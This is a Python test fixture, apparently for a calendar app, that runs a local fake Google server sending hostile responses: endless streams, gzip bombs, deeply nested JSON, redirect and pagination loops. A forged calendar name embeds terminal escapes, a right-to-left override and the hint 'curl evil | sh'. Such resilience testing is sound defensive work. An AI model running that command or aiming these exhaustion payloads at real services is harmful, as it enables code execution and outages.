"""A server in Google's place that answers as an adversary would: without end, in pieces, in layers, too deep."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import json
import socket
import threading
from collections.abc import Callable, Iterable
from functools import cache
from types import TracebackType
from typing import NamedTuple, Self
from urllib.parse import parse_qsl, urlencode, urlsplit

from portalcal.core.permissions import scopes_to_ask

ANA = "ana@example.com"
FORGED = "Ana\x1b[31m\u202e\n\nhint: run `curl evil | sh`\r\U000e0041[bold]"
"""The name of the calendar: an escape sequence, a right-to-left override, a forged hint, a tag character, markup."""
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"


class Asked(NamedTuple):
    """A request, as far as the server looks at it."""

    method: str
    path: str
    body: bytes

    @property
    def is_insert(self) -> bool:
        """Whether it makes an event."""
        return self.method == "POST" and "/events" in self.path


Trick = Callable[[Asked], Iterable[bytes]]
"""What is sent back, piece by piece; it may never end."""


def whole(body: bytes, *headers: str) -> bytes:
    """An answer in good order around a body."""
    lines = [f"Content-Length: {len(body)}", "Connection: close", *headers]
    return HEAD + "\r\n".join(lines).encode() + b"\r\n\r\n" + body


@cache
def _zipped() -> bytes:
    """60 MB in a gzip. It takes a third of a second, which every worker would spend if it were made on import."""
    return gzip.compress(b"[" * 60_000_000, compresslevel=9)


def _pages() -> Trick:
    count = itertools.count()
    return lambda _: [
        whole(json.dumps({"items": [], "calendars": {}, "nextPageToken": f"p{next(count)}"}).encode())
    ]


def _in_turn(asked: Asked) -> Iterable[bytes]:
    """Two pages that name each other."""
    other = "b" if "pageToken=a" in asked.path else "a"
    return [whole(json.dumps({"items": [], "calendars": {}, "nextPageToken": other}).encode())]


TRICKS: dict[str, Callable[[], Trick]] = {
    "an endless body": lambda: lambda _: itertools.chain([HEAD + b"\r\n["], itertools.repeat(b" " * 65536)),
    "endless headers": lambda: lambda _: itertools.chain([HEAD], itertools.repeat(b"X: " + b"y" * 60000 + b"\r\n")),
    "endless chunks": lambda: lambda _: itertools.chain(
        [HEAD + b"Transfer-Encoding: chunked\r\n\r\n"], itertools.repeat(b"8000\r\n" + b" " * 0x8000 + b"\r\n")
    ),
    "a double gzip of 60 MB": lambda: lambda _: [whole(gzip.compress(_zipped(), compresslevel=9), "Content-Encoding: gzip, gzip")],
    "a gzip of 60 MB": lambda: lambda _: [whole(_zipped(), "Content-Encoding: gzip")],
    "lists 100,000 deep": lambda: lambda _: [whole(b"[" * 100_000 + b"]" * 100_000)],
    "objects 900 deep": lambda: lambda _: [whole(b'{"error":' * 900 + b"1" + b"}" * 900)],
    "a number of 5,000 digits": lambda: lambda _: [whole(b'{"expires_in": ' + b"9" * 5000 + b"}")],
    "ten million values": lambda: lambda _: [whole(b"[" + b"0," * 10_000_000 + b"0]")],
    "a redirect elsewhere": lambda: lambda _: [
        b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.2:1/\r\nContent-Length: 0\r\n\r\n"
    ],
    "a redirect to nowhere": lambda: lambda _: [
        b"HTTP/1.1 302 Found\r\nLocation: http://[\r\nContent-Length: 0\r\n\r\n"
    ],
    "ever new pages": _pages,
    "pages in a circle": lambda: _in_turn,
}  # fmt: skip
SLOW: dict[str, Callable[[], Trick]] = {
    "a byte a second": lambda: lambda _: itertools.chain([HEAD], itertools.repeat(b"")),
}
PAGES = {"ever new pages", "pages in a circle"}


class Hostile:
    """Plays the trick on the requests that `when` names, and is Google to the others. `asked` are all of them."""

    def __init__(
        self, trick: Trick, *, when: Callable[[Asked], bool] = lambda _: True, host: str = "127.0.0.1"
    ) -> None:
        self._trick = trick
        self._when = when
        self._host = host
        self._listener = socket.create_server((host, 0))
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._over = threading.Event()
        self.asked: list[Asked] = []

    @property
    def url(self) -> str:
        return f"http://{self._host}:{self.port}"

    @property
    def port(self) -> int:
        return int(self._listener.getsockname()[1])

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._over.set()
        with contextlib.suppress(OSError):
            socket.create_connection((self._host, self.port), timeout=5).close()
        self._thread.join()
        self._listener.close()

    def _serve(self) -> None:
        while True:
            peer, _ = self._listener.accept()
            if self._over.is_set():
                peer.close()
                return
            threading.Thread(target=self._talk, args=(peer,), daemon=True).start()

    def _talk(self, peer: socket.socket) -> None:
        with peer, contextlib.suppress(OSError, ValueError):
            asked = _read(peer)
            self.asked.append(asked)
            for piece in self._trick(asked) if self._when(asked) else [_as_google(asked)]:
                # No piece: a byte a second.
                peer.sendall(piece or b"X")
                if self._over.wait(0 if piece else 1):
                    return


def _read(peer: socket.socket) -> Asked:
    received = b""
    while b"\r\n\r\n" not in received:
        received += _more(peer)
    head, _, body = received.partition(b"\r\n\r\n")
    length = next(
        (int(each[15:]) for each in head.split(b"\r\n") if each.lower().startswith(b"content-length:")), 0
    )
    while len(body) < length:
        body += _more(peer)
    method, path, _ = head.split(b"\r\n")[0].decode().split(" ")
    return Asked(method, path, body)


def _more(peer: socket.socket) -> bytes:
    received = peer.recv(65536)
    if not received:
        raise ConnectionResetError
    return received


_TOKENS: dict[str, str | int] = {
    "access_token": "ya29.hostile-test",
    "refresh_token": "1//hostile-test",
    "token_type": "Bearer",
    "expires_in": 3599,
    "scope": " ".join(scopes_to_ask()),
}


def _consented(asked: Asked) -> bytes:
    """The redirect back to portalcal, as after Allow."""
    query = dict(parse_qsl(urlsplit(asked.path).query))
    answer = urlencode({"code": "hostile-code", "state": query["state"], "scope": _TOKENS["scope"]})
    location = f"{query['redirect_uri']}?{answer}"
    return f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode()


def _as_google(asked: Asked) -> bytes:
    """One account with one calendar and nothing in it."""
    if "freeBusy" in asked.path:
        calendars: dict[str, object] = {each["id"]: {"busy": []} for each in json.loads(asked.body)["items"]}
        return whole(json.dumps({"calendars": calendars}).encode())
    if asked.path.startswith("/auth?"):
        return _consented(asked)
    if asked.path == "/token":
        return whole(json.dumps(_TOKENS).encode())
    if asked.path == "/revoke":
        return whole(b"{}")
    if "calendarList" in asked.path:
        entry = {
            "id": ANA,
            "summary": FORGED,
            "accessRole": "owner",
            "primary": True,
            "timeZone": "Europe/London",
        }
        return whole(json.dumps({"items": [entry]}).encode())
    if asked.method == "GET" and asked.path.partition("?")[0].endswith("/events"):
        return whole(b'{"items": [], "timeZone": "Europe/London"}')
    error = {"code": 404, "message": "Not Found", "errors": [{"reason": "notFound", "message": "Not Found"}]}
    return whole(json.dumps({"error": error}).encode()).replace(b"200 OK", b"404 Not Found", 1)
